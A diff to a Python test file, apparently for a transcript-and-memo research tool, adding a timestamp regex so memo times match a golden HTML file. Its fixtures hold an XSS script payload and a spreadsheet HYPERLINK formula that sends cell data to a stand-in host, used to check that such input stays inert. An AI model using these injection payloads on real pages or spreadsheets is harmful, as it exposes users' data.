@@ -32,6 +32,7 @@ pytest_plugins = ["golden_plugin"]
 
 ROOT = Path(__file__).resolve().parents[1]
 MADE = datetime(2026, 1, 2, 3, 4, tzinfo=UTC)
+STAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?\+00:00")
 SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 HOSTILE = f"""Interviewer: Anything about housing?
@@ -100,7 +101,9 @@ def test_page_with_memos(tmp_path: Path, golden: Callable[[str, bytes], None]) -
         add_memo(store, '<script>alert("memo")</script> & <b>it\'s bold</b>', "project", "laia")
         add_memo(store, "Officer, not resident.\nCheck the role.", "b1_officer.txt#1", "marc")
         add_memo(store, "Housing means rent here.", "inequality/housing", "laia")
-    golden("html/memos.html", page(project, context=1))
+    # a memo records when it was written: that time is set to MADE's in the page
+    text = STAMP.sub(MADE.isoformat(), page(project, context=1).decode("utf-8"))
+    golden("html/memos.html", text.encode("utf-8"))
 
 
 def test_script_and_formula_in_a_transcript_are_text_everywhere(tmp_path: Path) -> None:
